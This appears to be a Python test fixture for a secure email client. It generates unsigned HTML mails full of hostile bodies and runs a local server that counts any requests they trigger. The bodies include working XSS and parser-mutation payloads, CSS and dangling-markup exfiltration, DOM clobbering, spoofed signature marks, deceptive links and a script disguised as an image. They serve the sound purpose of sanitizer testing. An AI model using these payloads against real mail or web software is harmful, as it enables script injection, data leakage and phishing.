"""HTML mails that try to load something, run something, or look like part of the program; and a server that counts.

    with CountingServer() as server:
        for name, octets in hostile_mails(server.url, sender, recipient): ...
        server.requests     # paths that were asked for: none may be

Each body is one idea, or one family of them, written by us. `{url}` is the server that must hear nothing.
"""

import base64
import http.server
import threading
from email.message import EmailMessage

PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

# A script that ran leaves this mark, wherever it got to.
RAN = "try{top.letterlockRan=1}catch(e){};window.letterlockRan=1;fetch('{url}/ran')"

BODIES = {
    "img": "<img src='{url}/img'><img srcset='{url}/srcset 2x'><picture><source srcset='{url}/source'><img></picture>",
    "img-odd-cases": "<IMG SRC=\"{url}/upper\"><img\nsrc\n=\n'{url}/lines'><img/src='{url}/slash'/><img src={url}/bare>",
    "img-entities": "<img src='&#104;ttp&#58;//{host}/entity'><img src='//{host}/no-scheme'><img src='\thttp://{host}/tab'>",
    "img-lazy": "<img loading=lazy src='{url}/lazy' onload=\"{ran}\" onerror=\"{ran}\">",
    "background": "<body background='{url}/body'><table background='{url}/table'><tr><td background='{url}/cell'>x</table>",
    "style-attribute": "<p style=\"background:url({url}/a);list-style:url('{url}/b');cursor:url({url}/c),auto\">x</p>",
    "style-escapes": "<p style='background:\\75rl({url}/e1)'>x</p><p style='background:u/**/rl({url}/e2)'>x</p>"
                     "<p style='background-image:image-set(\"{url}/e3\" 1x)'>x</p>"
                     "<p style='--x:url({url}/e4);background:var(--x)'>x</p>",
    "style-masks": "<p style='mask:url({url}/m1);-webkit-mask-image:url({url}/m2);filter:url({url}/m3#f);clip-path:url({url}/m4#c)'>x</p>"
                   "<p style='border-image:url({url}/m5) 1;shape-outside:url({url}/m6);content:url({url}/m7)'>x</p>",
    "style-element": "<style>@import '{url}/import';@import url({url}/import2);@font-face{{font-family:f;src:url({url}/font)}}"
                     "*{{font-family:f;background:url({url}/all)}}p::before{{content:url({url}/before)}}</style><p>x</p>",
    "style-reads-attributes": "<style>input[value^='a']{{background:url({url}/leak-a)}}</style><input value='abc'>",
    "link": "<link rel=stylesheet href='{url}/css'><link rel=preload as=image href='{url}/preload'>"
            "<link rel=prefetch href='{url}/prefetch'><link rel=icon href='{url}/icon'><link rel=dns-prefetch href='{url}'>"
            "<link rel=preconnect href='{url}'><link rel=modulepreload href='{url}/module'><link rel=manifest href='{url}/manifest'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={url}/refresh'><p>x</p>",
    "base": "<base href='{url}/base/' target=_top><img src='relative'><a href='relative'>a link</a>",
    "frames": "<iframe src='{url}/iframe'></iframe><frameset><frame src='{url}/frame'></frameset>"
              "<iframe srcdoc=\"<img src='{url}/srcdoc'><script>{ran}</script>\"></iframe>",
    "objects": "<object data='{url}/object'></object><embed src='{url}/embed'><applet code='{url}/applet'></applet>"
               "<object type='image/svg+xml' data='data:image/svg+xml,<svg "
               "xmlns=\"http://www.w3.org/2000/svg\" onload=\"{ran}\"/>'></object>",
    "media": "<video src='{url}/video' poster='{url}/poster' autoplay></video><audio src='{url}/audio' autoplay></audio>"
             "<video><source src='{url}/source2'><track default src='{url}/track'></video>",
    "form": "<form action='{url}/form' method=post><input name=pin placeholder='PIN'><input type=image src='{url}/button'>"
            "<button formaction='{url}/formaction'>Continue</button></form><isindex action='{url}/isindex'>",
    "script": "<script>{ran}</script><script src='{url}/script'></script><script type=module src='{url}/module2'></script>"
              "<scr<script>ipt>{ran}</scr</script>ipt><script\n>{ran}</script\n>",
    "handlers": "<p onclick=\"{ran}\" onmouseover=\"{ran}\" onfocus=\"{ran}\" autofocus tabindex=0>x</p>"
                "<body onload=\"{ran}\" onpageshow=\"{ran}\">"
                "<details open ontoggle=\"{ran}\"><summary>s</summary>d</details><input autofocus onfocus=\"{ran}\">"
                "<marquee onstart=\"{ran}\">m</marquee>"
                "<div style='animation:x 1s' onanimationstart=\"{ran}\">x</div><img src=x onerror=\"{ran}\">",
    "script-links": "<a href=\"javascript:{ran}\">one</a><a href=\"java&#10;script:{ran}\">two</a>"
                    "<a href='data:text/html,<script>{ran}</script>'>three</a>"
                    "<a href=' &#14; javascript:{ran}'>four</a><a href='vbscript:x'>five</a><a href='file:///etc/passwd'>six</a>",
    "pings": "<a href='https://example.tw/' ping='{url}/ping'>a link</a><map name=m><area href='{url}/area' ping='{url}/ping2'></map>",
    "svg": "<svg><image href='{url}/svg-image'/><image xlink:href='{url}/svg-xlink'/><use href='{url}/use#x'/>"
           "<script>{ran}</script><script href='{url}/svg-script'/><feImage href='{url}/fe'/><a href=\"javascript:{ran}\">"
           "<text y=9>x</text></a>"
           "<animate onbegin=\"{ran}\" attributeName=x dur=1s /><set attributeName=href to='{url}/set'/><foreignObject>"
           "<img src='{url}/foreign'></foreignObject></svg>",
    "svg-style": "<svg><style>@import url({url}/svg-import);*{{fill:url({url}/fill#x)}}</style>"
                 "<rect fill='url({url}/rect#x)' width=9 height=9 /></svg>",
    "mathml": "<math href=\"javascript:{ran}\"><maction actiontype='statusline#{url}/math' xlink:href='javascript:x'>m</maction>"
              "<mtext><img src='{url}/mtext'></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={ran}&gt;\">"
                "<svg></p><style><a id=\"</style><img src={url}/mutated onerror={ran}>\">"
                "<noscript><p title=\"</noscript><img src={url}/noscript onerror={ran}>\"></noscript>",
    "mutation-forms": "<form><math><mtext></form><form><mglyph><style></math><img src={url}/mform onerror={ran}>",
    "template": "<template><img src='{url}/template' onerror=\"{ran}\"><script>{ran}</script></template>"
                "<div><template shadowrootmode=open><img src='{url}/shadow'><script>{ran}</script></template></div>",
    "comments": "<!--[if IE]><img src='{url}/conditional'><![endif]--><!--><img src='{url}/short' onerror=\"{ran}\">-->"
                "<!-- --!><img src='{url}/bang' onerror=\"{ran}\"> --><![CDATA[<img src='{url}/cdata'>]]>",
    "raw-text": "<textarea></textarea><img src='{url}/after-textarea'><xmp><img src='{url}/xmp'></xmp><plaintext>"
                "<img src='{url}/plaintext'>",
    "dangling": "<p>The secret follows.</p><img src='{url}/dangling?",
    "dangling-target": "<a href='{url}/target'><font size=7>press</font></a><base target='",
    "closes-the-frame": "</body></html></iframe><img src='{url}/outside'><script>{ran}</script><body><p>x",
    "clobbering": "<form id=document><input name=body><input name=createElement></form><a id=defaultView></a><img name=cookie>"
                  "<a id=config><a id=config name=url href='{url}/clobber'></a><form id=x><output id=attributes></form>",
    "custom-elements": "<x-mail is=x-y><slot name=s></slot></x-mail><portal src='{url}/portal'></portal>"
                       "<fencedframe src='{url}/fenced'></fencedframe>",
    "imitates-the-program": "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff'><h1>Letterlock</h1>"
                            "<p>✔ Signed and encrypted. The signature is valid.</p><input placeholder='PIN'></div>",
    "imitates-the-marks": "<header class='reader-head'><h1>Hello</h1><dl class='reader-lines'><dt>From</dt><dd>Ann &lt;ann@bank.tw&gt; "
                          "<button type=button class='mark good'>Signature valid</button></dd><dt>To</dt><dd>you <span class='mark good' "
                          "title='Encrypted'>Encrypted</span></dd></dl></header><p role=status aria-live=polite>Signature valid</p>"
                          "<style>.mark{{color:green;border-radius:9px;background:#dfd}}</style>",
    "link-that-lies": "<a href='https://thief.example/login'>https://bank.example.tw/</a>"
                      "<a href='https://bank.example.tw@thief.example/'>bank</a><a href='https://xn--bnk-hoa.example/'>bank</a>",
    "text-direction": "<p>\u202egpj.exe</p><bdo dir=rtl>txet</bdo><p>a\u2066b\u2069c\u200bd</p>",
    "top-navigation": "<a id=t href='{url}/top' target=_top>top</a><a href='{url}/parent' target=_parent>parent</a>",
    "deep": "<div>" * 5000 + "deep" + "</div>" * 5000 + "<img src='{url}/deep'>",
    "many": "<table>" + "<tr><td>cell<td><img src='{url}/many'>" * 2000 + "</table>",
    "broken": "<p><b><i><table><tr><td><p></b></i><img src='{url}/broken'<img src='{url}/broken2'><p id='><img src={url}/broken3>'>",
    "content-ids": "<img src='cid:picture'><img src='cid:absent'><img src='CID:picture#x'><img src='cid:page'>",
}


def html_of(name, url):
    host = url.partition("//")[2]
    ran = RAN.replace("{url}", url).replace('"', "&quot;")
    return BODIES[name].format(url=url, host=host, ran=ran)


def hostile_mails(url, sender, recipient):
    """(name, octets of the mail) of each: unsigned mail, as anybody can send it."""
    for name in BODIES:
        mail = EmailMessage()
        mail["From"], mail["To"], mail["Subject"] = sender, recipient, f"hostile {name}"
        mail["Message-ID"] = f"<hostile-{name}@example.test>"
        mail["Date"] = "Mon, 23 Nov 2026 08:00:00 +0000"
        mail.set_content(f"The plain text of {name}.\n")
        mail.add_alternative(f"<html><body><p>This is {name}.</p>{html_of(name, url)}</body></html>", subtype="html")
        html = mail.get_payload()[1]
        html.add_related(PIXEL, "image", "png", cid="<picture>", filename="picture.png")
        # What calls itself a picture and is a page stays a file to be saved.
        html.add_related(f"<script>{RAN.replace('{url}', url)}</script>".encode(), "image", "png", cid="<page>")
        yield name, mail.as_bytes()


class CountingServer:
    """Answers everything with a little script, and remembers what was asked for."""

    def __enter__(self):
        requests = self.requests = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()
                self.wfile.write(b"window.letterlockRan=1")

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()
